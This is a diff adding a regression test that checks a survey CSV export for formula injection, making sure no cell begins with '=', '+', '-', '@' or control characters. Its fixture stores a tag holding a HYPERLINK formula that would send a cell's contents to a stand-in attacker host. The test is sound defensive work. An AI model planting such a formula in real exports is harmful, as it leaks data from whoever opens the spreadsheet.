@@ -264,3 +264,28 @@ def test_odd_paths_and_methods_answer_in_the_error_format(method: str, path: str
     assert 400 <= response.status_code < 500
     assert response["Content-Type"].startswith("application/json"), response.content[:200]
     assert {"code", "message"} <= set(response.json())
+
+
+# --- survey export ----------------------------------------------------------------------------------
+def test_no_csv_cell_of_the_survey_export_starts_a_formula() -> None:
+    """[low] The comment cell was guarded, the tags cell was not: a keyword list's tag (typed by
+    marketing) reached a branch manager's spreadsheet as a formula."""
+    import csv
+
+    from accounts.models import StaffRole
+    from feedback.models import SurveyKeywordList
+    from feedback.selectors_surveys import survey_response_qs_for_staff
+    from feedback.services.surveys import survey_answer, survey_responses_csv
+    from tests.factories import StaffFactory
+    from tests.feedback.factories_tickets import invitation
+
+    SurveyKeywordList.objects.create(tag='=HYPERLINK("http://evil.example/?"&A1)', keywords="慢")
+    customer = CustomerFactory()
+    survey_answer(customer=customer, public_id=invitation(customer).public_id, score=3, comment="到账太慢")
+    manager = StaffFactory(roles=[StaffRole.BRANCH_MANAGER], branch=customer.home_branch)
+
+    body = survey_responses_csv(staff=manager, queryset=survey_response_qs_for_staff(manager))
+
+    rows = list(csv.reader(io.StringIO(body)))
+    assert len(rows) == 2
+    assert [cell for cell in rows[1] if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
